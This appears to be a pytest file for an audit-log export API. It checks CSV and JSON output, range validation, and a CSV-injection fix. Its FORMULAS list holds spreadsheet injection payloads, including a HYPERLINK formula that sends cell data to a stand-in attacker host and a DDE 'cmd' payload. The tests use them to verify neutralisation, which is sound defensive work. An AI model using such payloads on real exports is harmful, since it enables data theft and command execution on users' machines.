"""The auditor's export: the trail for a time range and filters, as CSV or a JSON array, every
matching event oldest first with its hashes; the range is checked; the export is itself audited."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

from core.kernel.models import utcnow
from tests.api.conftest import Api


def _listed(api: Api, **params: str) -> list[dict[str, object]]:
    items: list[dict[str, object]] = []
    before = None
    while True:
        q = {**params, "limit": 1000, **({"before_seq": before} if before else {})}
        page = api.get("/api/audit", params=q, user="erin").json()
        items += page["items"]
        before = page["next_before_seq"]
        if not before:
            return items


def test_export_a_time_range_as_csv_and_json(api: Api) -> None:
    dev = api.get("/api/devices", params={"limit": 1}).json()["items"][0]["id"]
    for _ in range(2):
        assert api.post("/api/proposals", {"intent": "export check", "targets": [dev], "changes": [
            {"path": "Device.WiFi.Radio.1.AutoChannelEnable", "value": True}]}).status_code == 201
    now = utcnow()
    since = (now - timedelta(days=2)).isoformat()
    until = (now + timedelta(minutes=1)).isoformat()
    listed = _listed(api, since=since, until=until, action="proposal.")
    assert listed
    r = api.get("/api/audit/export", params={"format": "csv", "since": since, "until": until, "action": "proposal."},
                user="erin")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"] and ".csv" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [int(x["seq"]) for x in rows] == sorted(int(str(e["seq"])) for e in listed)  # every one, oldest first
    assert all(x["action"].startswith("proposal.") and len(x["hash"]) == 64 for x in rows)
    assert json.loads(rows[0]["data"]) == next(e for e in listed if e["seq"] == int(rows[0]["seq"]))["data"]
    j = api.get("/api/audit/export", params={"format": "json", "since": since, "until": until, "action": "proposal."},
                user="erin")
    assert j.status_code == 200 and j.headers["content-type"].startswith("application/json")
    events = j.json()
    assert [e["seq"] for e in events] == [int(x["seq"]) for x in rows]
    assert {"prev_hash", "hash", "ts", "actor"} <= set(events[0])
    # the same range, later: nothing in it
    later = api.get("/api/audit/export", params={"format": "json", "since": until}, user="erin").json()
    assert all(e["action"] == "audit.exported" for e in later)
    exported = _listed(api, action="audit.exported", actor="erin")
    assert len(exported) >= 2 and exported[0]["data"]["format"] in ("csv", "json")


def test_a_range_that_ends_before_it_starts_is_refused(api: Api) -> None:
    now = utcnow()
    r = api.get("/api/audit/export", params={"since": now.isoformat(), "until": (now - timedelta(hours=1)).isoformat()},
                user="erin")
    assert r.status_code == 422 and "must be before" in r.json()["detail"]
    assert api.get("/api/audit", params={"since": now.isoformat(), "until": now.isoformat()}).status_code == 422
    assert api.client.get("/api/audit/export").status_code == 401
    assert api.get("/api/audit/export", params={"format": "xml"}, user="erin").status_code == 422


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_no_csv_cell_starts_a_spreadsheet_formula(api: Api) -> None:
    """Issue 56: a device's model, subscriber or firmware, an actor or any other text starting with
    ``= + - @``, a tab or a carriage return was written as is, and a spreadsheet opening the export ran
    it as a formula (CSV injection). Each such cell is prefixed with ``'`` (OWASP); JSON stays exact."""
    from core import audit
    from core.store import repo

    dev_id = api.get("/api/devices", params={"limit": 1}).json()["items"][0]["id"]
    with api.rt.store.read() as s:
        dev = repo.get_device(s, dev_id)
    with api.rt.store.write() as s:
        for bad in FORMULAS:
            audit.append(s, actor=bad, action="test.formula", data={"note": bad},
                         device=dev.model_copy(update={"model": bad, "subscriber": bad, "firmware": bad}))
    r = api.get("/api/audit/export", params={"format": "csv", "action": "test.formula"}, user="erin")
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    assert [x["actor"] for x in rows] == ["'" + bad for bad in FORMULAS]
    for x in rows:
        for column in ("model", "subscriber", "firmware"):
            assert x[column] == x["actor"], (column, x)
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in x.values()), x
        assert json.loads(x["data"])["note"] == x["actor"][1:]  # the JSON column keeps the value itself
    exact = api.get("/api/audit/export", params={"format": "json", "action": "test.formula"}, user="erin").json()
    assert [e["actor"] for e in exact] == FORMULAS
